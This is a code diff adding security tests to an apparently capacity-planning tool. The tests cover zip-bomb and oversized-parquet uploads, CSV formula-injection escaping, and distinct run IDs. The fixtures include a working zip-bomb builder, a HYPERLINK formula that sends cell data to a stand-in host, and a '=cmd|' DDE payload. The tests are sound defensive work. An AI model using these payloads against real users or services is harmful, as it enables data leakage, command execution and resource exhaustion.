@@ -224,3 +224,148 @@ def test_applied_override_matching_no_row_raises_with_did_you_mean(tiny_dir: Pat
     window = {**ov, "where": {"customer": "acme"}, "from_period": "2030Q1"}
     with pytest.raises(DataValidationError, match="no row of demand matches"):
         apply_overrides(ds, [window])
+
+
+# ------------------------------------------------------------------------- zip bombs
+def _understated_zip(actual_bytes: int, declared: int = 1000) -> bytes:
+    """A zip whose demand.csv inflates to ``actual_bytes`` but declares ``declared``."""
+    import io
+    import struct
+    import zipfile
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("demand.csv", b"0" * actual_bytes)
+    data = bytearray(buf.getvalue())
+    local = data.find(b"PK\x03\x04")
+    central = data.find(b"PK\x01\x02")
+    struct.pack_into("<I", data, local + 22, declared)  # uncompressed size, local header
+    struct.pack_into("<I", data, central + 24, declared)  # and in the central directory
+    return bytes(data)
+
+
+def test_zip_member_understating_its_size_is_streamed_with_a_cap() -> None:
+    import tracemalloc
+
+    from ui.dataio import UploadedFile, UploadError, dataset_from_upload
+
+    blob = _understated_zip(200 * 1024 * 1024)
+    assert len(blob) < 1024 * 1024
+    tracemalloc.start()
+    try:
+        with pytest.raises(UploadError, match="bomb.zip"):
+            dataset_from_upload([UploadedFile("bomb.zip", blob)], None)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 16 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB while refusing the zip"
+
+
+def test_zip_over_the_byte_cap_with_honest_sizes_is_refused_before_reading() -> None:
+    import io
+    import zipfile
+
+    from ui.dataio import UploadedFile, UploadError, dataset_from_upload
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("demand.csv", b"0" * (51 * 1024 * 1024))
+    with pytest.raises(UploadError, match="unpacks to 51.0 MB; the limit is 50 MB"):
+        dataset_from_upload([UploadedFile("big.zip", buf.getvalue())], None)
+
+
+def test_parquet_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path) -> None:
+    import pandas as pd
+
+    from capacity.dataset import load_dataset as load
+    from ui.dataio import UploadedFile, UploadError, dataset_from_upload
+
+    p = tmp_path / "demand.parquet"
+    rows = [f"{i:08d}" + "x" * 300 for i in range(200_000)]  # 62 MB of distinct cells
+    pd.DataFrame({"customer": rows}).to_parquet(p, compression="zstd")
+    assert p.stat().st_size < 1024 * 1024
+    current = load(LP_DATA / "lp_one")
+    with pytest.raises(UploadError, match="once unpacked; the limit is 50 MB"):
+        dataset_from_upload([UploadedFile("demand.parquet", p.read_bytes())], current)
+
+
+def test_app_server_refuses_uploads_above_the_stated_limit() -> None:
+    from capacity.limits import MAX_UPLOAD_MB
+    from optimizer.cli import app_command
+
+    cmd = app_command(8501, "localhost", True)
+    i = cmd.index("--server.maxUploadSize")
+    assert cmd[i + 1] == str(MAX_UPLOAD_MB) == "50"
+
+
+# ----------------------------------------------------------------------------- run IDs
+def test_two_reports_in_the_same_second_get_distinct_run_ids(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from datetime import UTC, datetime
+
+    from optimizer import report
+    from tests.test_report import fake_result
+
+    monkeypatch.setattr(report, "_utc_now", lambda: datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))
+    first = report.write_report(fake_result(objective_usd=1.0), tmp_path, scenario="neutral")
+    second = report.write_report(fake_result(objective_usd=2.0), tmp_path, scenario="neutral")
+    assert first.name == "20260102T030405Z-01234567"
+    assert second.name == "20260102T030405Z-01234567-2"
+    assert report.read_manifest(first)["scenarios"]["neutral"]["objective_usd"] == 1.0
+    assert report.read_manifest(second)["scenarios"]["neutral"]["objective_usd"] == 2.0
+
+
+# ------------------------------------------------------------------- formula injection
+def test_dataset_download_escapes_formula_cells_and_reads_back_the_same(tiny_dir: Path) -> None:
+    import io
+    import zipfile
+
+    import pandas as pd
+
+    from ui.dataio import UploadedFile, dataset_from_upload, dataset_zip_bytes
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    ds = load_dataset(tiny_dir)
+    customers = ds.table("customers").assign(display_name=[evil])
+    ds = ds.replace(customers=customers)
+    blob = dataset_zip_bytes(ds)
+    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
+        text = zf.read("customers.csv").decode()
+    cell = pd.read_csv(io.StringIO(text), dtype=str)["display_name"].iloc[0]
+    assert cell == "'" + evil
+    back = dataset_from_upload([UploadedFile("d.zip", blob)], None)
+    assert back.table("customers")["display_name"].iloc[0] == evil
+    assert back.hash == ds.hash
+
+
+def test_escape_leaves_numbers_alone_and_is_reversible() -> None:
+    import pandas as pd
+
+    from capacity.csv_safe import escape_formula_cells, unescape_formula_cells
+
+    df = pd.DataFrame({"id": ["+1", "@a", "-x", "'=y", "ok", "\tz"], "v": [-1.5, 2, 3, 4, 5, 6]})
+    esc = escape_formula_cells(df)
+    assert esc["id"].tolist() == ["'+1", "'@a", "'-x", "''=y", "ok", "'\tz"]
+    assert esc["v"].tolist() == df["v"].tolist()
+    pd.testing.assert_frame_equal(unescape_formula_cells(esc), df)
+
+
+EVIL_SCENARIOS = """scenarios:
+  "=cmd|' /C calc'!A0":
+    description: a scenario named like a formula (and invalid data)
+    overrides:
+      - {op: set, table: sites, column: pue_air, where: {site: dc-1}, value: 0.5}
+"""
+
+
+def test_batch_summary_escapes_formula_cells(tiny_dir: Path, tmp_path: Path) -> None:
+    from optimizer.batch import run_batch
+
+    (tiny_dir / "scenarios.yaml").write_text(EVIL_SCENARIOS)
+    sweep = tmp_path / "sweep.yaml"
+    sweep.write_text(f"data: {tiny_dir}\nscenarios: [\"=cmd|' /C calc'!A0\"]\n")
+    r = run_batch(sweep, tmp_path / "out", progress=False)
+    assert r.n_failed == 1  # invalid data: no cluster is started
+    lines = (tmp_path / "out" / "batch_summary.csv").read_text().splitlines()
+    assert lines[1].startswith("'=cmd|' /C calc'!A0,scenario,failed,invalid_data")
